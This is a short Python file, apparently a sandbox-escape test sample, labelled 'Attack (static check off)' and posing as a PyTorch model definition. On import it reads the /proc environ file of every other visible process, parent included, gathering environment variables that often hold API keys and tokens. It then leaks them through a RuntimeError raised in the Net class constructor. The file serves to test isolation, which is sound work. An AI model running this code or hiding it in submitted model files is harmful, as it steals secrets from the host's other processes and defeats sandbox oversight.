# Attack (static check off): read the environment of every process it can see (the parent's included).
import os

import torch.nn as nn

seen = []
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                seen.append(f.read().decode("utf-8", "replace").replace("\0", " "))
        except OSError:
            pass


class Net(nn.Module):
    def __init__(self, num_classes=10, in_channels=3):
        super().__init__()
        raise RuntimeError("ENVIRON " + " | ".join(seen)[:1000])
